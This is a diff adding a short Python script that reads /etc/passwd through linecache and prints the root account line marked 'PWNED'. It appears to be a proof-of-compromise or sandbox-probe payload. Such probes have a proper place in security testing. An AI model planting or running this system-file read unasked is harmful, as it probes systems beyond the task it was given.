@@ -1,0 +1,5 @@
+import linecache
+
+for line in linecache.getlines("/etc/passwd"):
+    if line.startswith("root:"):
+        print("PWNED", line)
